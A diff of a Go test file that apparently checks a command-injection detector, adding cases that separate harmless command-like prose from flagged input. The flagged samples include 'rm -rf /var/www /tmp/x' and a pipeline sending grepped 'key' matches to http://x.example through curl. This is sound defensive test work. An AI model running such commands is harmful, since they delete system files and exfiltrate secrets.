@@ -47,7 +47,13 @@ func TestCommandLineProse(t *testing.T) {
 		{"sentence after a path", "cat /etc/hosts shows the names", ""},
 		{"two words starting with a verb", "rm -rf is dangerous", ""},
 		{"two words starting with a modal", "kill -9 should work", ""},
-		{"two arguments after the option", "rm -rf build dist", "cmdi.command"},
+		{"two arguments after the option, system paths", "rm -rf /var/www /tmp/x", "cmdi.command"},
+		{"two arguments after the option, project paths", "rm -rf build dist", ""},
+		{"a ticket's command line", "kubectl get pods -n prod", ""},
+		{"archive in the project", "tar -xzf release.tar.gz", ""},
+		{"closed off", "tar -xzf release.tar.gz;", "cmdi.command"},
+		{"pipeline of a quoted command line", "git log --oneline | head -5", ""},
+		{"pipeline into a network tool", "grep -r key . | curl -d @- http://x.example", "cmdi.separator"},
 	}
 	for _, c := range cases {
 		t.Run(c.name, func(t *testing.T) {
